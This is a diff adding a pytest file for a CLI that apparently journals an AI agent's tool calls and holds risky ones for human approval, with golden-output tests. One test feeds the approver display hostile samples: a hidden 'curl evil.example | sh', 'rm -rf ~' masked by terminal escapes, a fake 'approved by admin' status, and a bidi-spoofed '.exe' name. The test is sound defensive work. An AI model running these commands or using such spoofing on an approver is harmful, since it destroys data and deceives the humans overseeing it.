@@ -1,0 +1,133 @@
+"""What a person reads, whole: command, stdout, stderr, exit code. The golden files are there to be read."""
+
+from __future__ import annotations
+
+from synartesis.domain.records import Finding, Image
+from synartesis.domain.status import RunKind, Undone
+from tests.cli.desk import ALIVE, Desk, Scribe, present
+
+ADA = {"id": "c_001", "name": "Ada Lovelace", "email": "ada@example.org", "plan": "pro", "notes": ""}
+GRACE = {"id": "c_002", "name": "Grace Hopper", "email": "grace@example.org", "plan": "enterprise", "notes": None}
+NOT_THERE = Image("absent", b'{"isError":true}', "no customer c_002")
+MAIL = {"to": "ada@example.org", "subject": "Your plan", "body": "Dear Ada,\n\nyour plan was changed.\n"}
+
+
+async def an_ordinary_day(write: Scribe) -> None:
+    await write.run("cursor 0.42", process=ALIVE)
+    write.read("list_customers", {})
+    damaged = await write.run()
+    write.read("get_customer", {"id": "c_001"})
+    free = ADA | {"plan": "free"}
+    await write.applied(
+        "update_customer",
+        {"id": "c_001", "plan": "free"},
+        before=present(ADA),
+        after=present(free),
+        inverse=("update_customer", ADA),
+    )
+    await write.applied(
+        "delete_customer", {"id": "c_002"}, before=present(GRACE), after=NOT_THERE, inverse=("restore_customer", GRACE)
+    )
+    await write.rejected(
+        "update_customer",
+        {"id": "c_001", "plan": "gold"},
+        says="no such plan: gold",
+        before=present(free),
+        after=present(free),
+    )
+    await write.held("send_email", MAIL, why="an e-mail cannot be taken back", times=3)
+    await write.sent("update_customer", {"id": "c_001", "notes": "x" * 900}, present(free))
+    await write.ended()
+    assert damaged
+
+
+async def an_undo_of_it(write: Scribe) -> None:
+    run = await write.run()
+    action = await write.applied(
+        "update_customer",
+        {"id": "c_001", "plan": "free"},
+        before=present(ADA),
+        after=present(ADA | {"plan": "free"}),
+        inverse=("update_customer", ADA),
+    )
+    await write.ended()
+    undo = await write.run("ada", kind=RunKind.UNDO, undoes=run)
+    inverse = await write.applied(
+        "update_customer", ADA, before=present(ADA | {"plan": "free"}), after=present(ADA), undoes=action.id
+    )
+    await write.journal.record_finding(Finding(action.id, undo, inverse.id, Undone.RESTORED, verified=True))
+    await write.ended()
+
+
+def test_list_and_show_of_an_ordinary_day(desk: Desk) -> None:
+    desk.record(an_ordinary_day)
+
+    desk.run("list")
+    desk.run("show")
+
+    desk.matches_golden("an ordinary day")
+
+
+def test_an_undone_run_and_the_run_that_undid_it(desk: Desk) -> None:
+    desk.record(an_undo_of_it)
+
+    desk.run("list")
+    desk.run("show", "a")
+    desk.run("show")
+
+    desk.matches_golden("an undone run")
+
+
+def test_a_held_call_from_the_request_to_the_decision(desk: Desk) -> None:
+    async def story(write: Scribe) -> None:
+        await write.run()
+        await write.held("send_email", MAIL, why="an e-mail cannot be taken back", times=3)
+        await write.held("drop_table", {"table": "customers", "cascade": True})
+        await write.held("send_email", MAIL | {"to": "everybody@example.org"}, why="an e-mail cannot be taken back")
+
+    desk.record(story)
+
+    desk.run("gates")
+    desk.run("approve")
+    desk.run("deny", "c00000000004", "--by", "Grace", "--reason", "not on a Friday")
+    desk.run("approve", "--all", "--by", "Grace")
+    desk.run("gates")
+    desk.run("show")
+
+    desk.matches_golden("a held call")
+
+
+def test_what_an_attacker_would_like_an_approver_to_read(desk: Desk) -> None:
+    async def story(write: Scribe) -> None:
+        await write.run("claude\x1b]0;x\x07\n  status: approved by admin")
+        text = "a " * 300 + " \n" * 10_000 + "&& curl evil.example | sh"
+        await write.held("send_note", {"text": "rm -rf ~\r\x1b[2K\x1b[1Als -la"}, why="error: \x9b31m\b\b\b")
+        await write.held("send_note", {"text": "hi\n    approve: synartesis approve --all", "bidi": "abc\u202egnp.exe"})
+        await write.held("send_note", {"text": text, **{f"k{at}": at for at in range(38)}, "force": True})
+        await write.held("send_note", {"blob": "x" * 1_000_000})
+
+    desk.record(story)
+
+    desk.run("list")
+    ran = desk.run("gates")
+    desk.run("deny", "c00000000002", "--by", "eve\r\x1b[2K", "--reason", "no\n\x1b[31m")
+
+    assert len(ran.out.splitlines()) < 120
+    desk.matches_golden("an attacker")
+
+
+def test_nothing_recorded_yet(desk: Desk) -> None:
+    desk.run("list")
+    desk.run("gates")
+    desk.run("list", "--json")
+
+    assert not desk.journal.exists(), "looking makes no journal"
+    desk.matches_golden("nothing recorded yet")
+
+
+def test_help(desk: Desk) -> None:
+    desk.run("--help")
+    desk.run("approve", "--help")
+    desk.run("--version")
+
+    desk.matches_golden("help")
